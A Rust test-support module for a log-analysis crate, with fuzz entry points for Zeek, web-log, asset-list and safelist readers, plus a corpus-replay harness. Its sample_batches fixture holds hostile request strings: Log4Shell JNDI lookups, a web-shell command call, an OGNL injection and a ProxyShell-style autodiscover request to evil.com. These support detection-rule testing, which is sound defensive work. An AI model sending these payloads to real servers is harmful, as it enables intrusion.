//! The entry points the fuzz targets (`fuzz/`) and their corpus-replay tests share, one per
//! reader of outside input in this crate. Each panics only on a broken invariant (a record
//! neither kept nor counted, an entry that matches nothing it was made from), never on input.

use std::path::{Path, PathBuf};

use crate::assets::Assets;
use crate::diagnostics::Diagnostics;
use crate::reader::{ReadOptions, read_stream};
use crate::safelist::{Peer, Safelist};

/// Reads `data` as a Zeek log named `conn.log` (so that header-less JSON still has a type), with
/// small chunks so that chunk boundaries are exercised too: every data line is either stored or
/// counted as dropped.
pub fn read_bytes(data: &[u8]) {
    read_as(data, "fuzz/conn.log");
}

/// Reads `data` as a web server's access log (Apache/Nginx combined, IIS W3C, JSON lines):
/// the same sniffing and chunking as a file named `access.log`.
pub fn read_web(data: &[u8]) {
    read_as(data, "fuzz/access.log");
}

fn read_as(data: &[u8], name: &str) {
    let options =
        ReadOptions { threads: 2, chunk_bytes: 256, max_line_bytes: 4096, ..Default::default() };
    let input: Box<dyn std::io::Read + Send> = match data.first() {
        // Let the fuzzer reach the decompressors through the same sniffing as files.
        Some(0x1f) | Some(0x28) => {
            match crate::reader::decompress(std::io::Cursor::new(data.to_vec())) {
                Ok(r) => r,
                Err(_) => return,
            }
        }
        _ => Box::new(std::io::Cursor::new(data.to_vec())),
    };
    let mut rows = 0u64;
    let summary = read_stream(Path::new(name), input, &options, |_, batch| {
        rows += batch.num_rows() as u64;
        Ok::<(), ()>(())
    })
    .expect("the callback never fails");
    assert_eq!(rows, summary.records);
}

/// Reads `data` as an asset list (`--assets`): a row is either kept or reported with its line.
pub fn read_assets(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let mut assets = Assets::default();
    let mut diagnostics = Diagnostics::default();
    if assets.add_text(Path::new("fuzz/assets.csv"), &text, &mut diagnostics).is_err() {
        return;
    }
    let data_lines = text.lines().filter(|l| !l.trim().is_empty()).count();
    let reported: u64 = diagnostics.counts.values().sum();
    assert!(assets.rows.len() + reported as usize <= data_lines);
}

/// Reads `data` as a safelist and asks it about a few peers, including the text's own tokens.
pub fn read_safelist(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let mut list = Safelist::default();
    let mut diagnostics = Diagnostics::default();
    list.add_text(Path::new("fuzz/safelist.txt"), &text, &mut diagnostics);
    let entries = text.lines().filter(|l| !l.split('#').next().unwrap_or("").trim().is_empty());
    assert_eq!(list.len() + diagnostics.counts.values().sum::<u64>() as usize, entries.count());
    let v4: &[u8] = &[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 10, 0, 0, 1];
    for token in text.split_whitespace().take(64) {
        let _ = list.excludes(Peer::Name(token), Peer::Addr(v4));
        let _ = list.excludes_one(Peer::Name(token));
    }
}

/// A few hostile web requests and Zeek HTTP records as batches, for targets that evaluate
/// what they parsed (Sigma rules) against real columns.
pub fn sample_batches() -> Vec<(lasthop_normalise::LogType, arrow_array::RecordBatch)> {
    const WEB: &str = concat!(
        "203.0.113.9 - - [10/Oct/2024:13:55:36 +0000] \"GET /index.php?x=${jndi:ldap://a/b} HTTP/1.1\" 200 2326 \"-\" \"Mozilla/5.0 ${lower:j}ndi\"\n",
        "198.51.100.2 - admin [10/Oct/2024:13:55:37 +0000] \"POST /uploads/shell.aspx?cmd=whoami%20%26%26%20id HTTP/1.1\" 200 12 \"http://x/\" \"python-requests/2.31\"\n",
        "2001:db8::7 - - [10/Oct/2024:13:55:38 +0000] \"GET /pages/createpage-entervariables.action?queryString=%5cu0027%2b%7bClass.forName%28%27javax.script%27%29%7d HTTP/1.1\" 302 0 \"-\" \"curl/8\"\n",
        "192.0.2.1 - - [10/Oct/2024:13:55:39 +0000] \"GET /autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com HTTP/1.1\" 200 5 \"-\" \"\u{fffd}\\x00\"\n",
    );
    const HTTP: &str = concat!(
        "{\"_path\":\"http\",\"ts\":1728568536.0,\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.1\",\"id.orig_p\":50000,\"id.resp_h\":\"203.0.113.9\",\"id.resp_p\":80,\"method\":\"GET\",\"host\":\"evil.example\",\"uri\":\"/a?b=${jndi:ldap://x/y}\",\"user_agent\":\"curl/8\",\"status_code\":200}\n",
        "{\"_path\":\"http\",\"ts\":1728568537.0,\"uid\":\"C2\",\"id.orig_h\":\"10.0.0.2\",\"id.orig_p\":50001,\"id.resp_h\":\"198.51.100.2\",\"id.resp_p\":443,\"method\":\"POST\",\"host\":\"mail.example\",\"uri\":\"/owa/auth/x.js\",\"user_agent\":\"Mozilla/5.0\",\"status_code\":500}\n",
    );
    let mut batches = Vec::new();
    for (name, text) in [("sample/access.log", WEB), ("sample/http.log", HTTP)] {
        let input = Box::new(std::io::Cursor::new(text.as_bytes().to_vec()));
        read_stream(Path::new(name), input, &ReadOptions::default(), |log_type, batch| {
            batches.push((log_type, batch));
            Ok::<(), ()>(())
        })
        .expect("the callback never fails");
    }
    batches
}

/// Where the fuzz targets' inputs live: committed seeds, a local corpus the fuzzer grew, and the
/// inputs of fixed crashes.
fn corpus_dirs(target: &str) -> [PathBuf; 3] {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz");
    [
        root.join("corpus/seed").join(target),
        root.join("corpus").join(target),
        root.join("regressions").join(target),
    ]
}

/// Runs `target`'s every corpus and regression input through `run`, naming the input that
/// panicked, and returns how many inputs ran: the corpus-replay tests' loop.
pub fn replay(target: &str, run: impl Fn(&[u8])) -> usize {
    let mut replayed = 0;
    for dir in corpus_dirs(target) {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        let mut paths: Vec<PathBuf> = entries.flatten().map(|e| e.path()).collect();
        paths.sort();
        for path in paths {
            // A live fuzzer may be reducing the local corpus while this runs.
            let Ok(data) = std::fs::read(&path) else { continue };
            let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| run(&data)));
            if outcome.is_err() {
                panic!("fuzz input {} panicked (see above)", path.display());
            }
            replayed += 1;
        }
    }
    replayed
}

/// The assertion every replay test makes: the committed seeds are there, so a silent empty
/// replay cannot pass.
pub fn assert_replayed(target: &str, replayed: usize) {
    assert!(replayed >= 10, "{target}: expected the committed seed corpus, replayed {replayed}");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_reader_of_this_crate_replays_its_corpus() {
        for (target, run) in [
            ("zeek_reader", read_bytes as fn(&[u8])),
            ("web_log", read_web),
            ("asset_list", read_assets),
            ("safelist", read_safelist),
        ] {
            assert_replayed(target, replay(target, run));
        }
    }

    #[test]
    fn the_sample_batches_hold_web_and_http_records() {
        let rows: Vec<(&str, usize)> =
            sample_batches().iter().map(|(t, b)| (t.name(), b.num_rows())).collect();
        assert_eq!(rows, [("web", 4), ("http", 2)]);
    }
}
